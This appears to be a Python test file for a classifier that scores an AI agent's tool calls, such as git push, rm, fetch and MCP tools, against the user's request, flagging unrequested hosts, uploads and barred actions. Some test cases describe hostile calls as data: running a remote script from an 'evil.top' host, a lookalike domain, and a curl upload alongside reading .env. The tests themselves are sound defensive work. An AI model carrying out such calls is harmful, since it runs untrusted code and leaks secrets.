from classifiers.features.approve.asked import NOBODY, asked_of
from classifiers.features.approve.calls import Call, Part, Past, Spot
from classifiers.features.approve.vector import BUCKETS, DIRECTIONS, NAMES, barred, crosses, schema_hash, vector
from classifiers.features.asks import said_of

PUSH = Call(
    "shell",
    parts=(Part("git", "push", operands=("origin", "main"), effects=("network", "publish")),),
    effects=("network", "publish"),
)


def asked(*texts):
    return asked_of([said_of(text) for text in texts])


def seen(ask, call, past=None):
    return dict(zip(NAMES, vector(asked(ask) if isinstance(ask, str) else ask, past or Past(), call), strict=True))


def test_the_vector_has_its_names():
    assert len(vector(NOBODY, Past(), PUSH)) == len(NAMES) == len(DIRECTIONS) == len(set(NAMES))
    assert len(schema_hash()) == 64


def test_an_ask_for_it_agrees():
    wanted, other = seen("commit and push to origin main", PUSH), seen("why is the test red?", PUSH)
    assert wanted["intent_latest"] == 1.0
    assert wanted["announced"] == 1.0
    assert wanted["operand_missing"] == 0.0
    assert other["intent_missing"] == 2.0
    assert other["unannounced"] == 1.0


def test_paths_are_named_whole_or_by_their_folder():
    call = Call("shell", parts=(Part("rm", operands=("build/x.o",)),), writes=(Spot("build/x.o", "in"),))
    assert seen("delete build/x.o", call)["write_named"] == 1.0
    assert seen("delete the build folder", call)["write_named"] == 1.0
    assert seen("delete the old logs", call)["write_named"] == 0.0
    assert seen("delete the old logs", call)["removed"] == 1.0


def test_hosts():
    call = Call("fetch", hosts=("api.example.com",), effects=("network",))
    assert seen("fetch https://example.com/x", call)["host_named"] == 1.0
    assert seen("fetch it", call)["host_strange"] == 1.0
    assert seen("fetch it", call, Past(used={"h:api.example.com"}))["host_strange"] == 0.0
    local = seen("is it up?", Call("fetch", hosts=("localhost:3000",), effects=("network",)))
    assert (local["host_local"], local["effect_network"]) == (1.0, 0.0)
    assert (
        seen("go", Call("shell", parts=(Part("deno", "run", operands=("https://evil.top/x.ts",)),)))["host_strange"]
        == 1.0
    )


def test_a_lookalike_host_is_not_the_named_one():
    call = Call("fetch", hosts=("example.com.evil.top",), effects=("network",))
    assert seen("fetch https://example.com/", call)["host_named"] == 0.0


def test_what_was_used_and_granted():
    assert seen("x", PUSH, Past(used={"p:git push"}))["used"] == 1.0
    assert seen("x", PUSH, Past(granted={"p:git push"}))["granted"] == 1.0


def test_dangers_are_counted():
    call = Call(
        "shell",
        parts=(
            Part("curl", flags=("-d", "-k"), known=False, nested=True),
            Part("bash", operands=("x.sh", "production")),
        ),
        reads=(Spot(".env", "in"),),
        tainted=True,
    )
    found = seen("go", call)
    assert (found["uploads"], found["force"], found["sensitive"], found["tainted"]) == (1.0, 1.0, 1.0, 1.0)
    assert (found["unknown_programs"], found["nested"], found["scripts"], found["production"]) == (1.0, 1.0, 1.0, 1.0)


def test_tools_of_servers():
    call = Call("mcp", "create_issue", "jira")
    assert seen("create a jira issue", call)["server_named"] == 1.0
    assert seen("create a jira issue", call)["tool_named"] == 1.0
    assert seen("create a jira issue", Call("mcp", "delete_issue", "jira"))["unannounced"] == 1.0


def test_what_the_user_ruled_out():
    assert barred(asked("commit, but don't push"), PUSH) == "publish"
    assert barred(asked("commit and push"), PUSH) == ""
    assert barred(asked("leave src/a.py alone"), Call("edit", writes=(Spot("src/a.py", "in"),))) == "changing src/a.py"
    commit = Call("shell", parts=(Part("git", "commit"),))
    assert barred(asked("don't commit yet"), commit) == "commit"


def test_pairs_are_buckets():
    found = crosses(asked("push it"), PUSH)
    assert found
    assert all(0 <= bucket < BUCKETS for bucket in found)
    assert crosses(NOBODY, Call("search"))
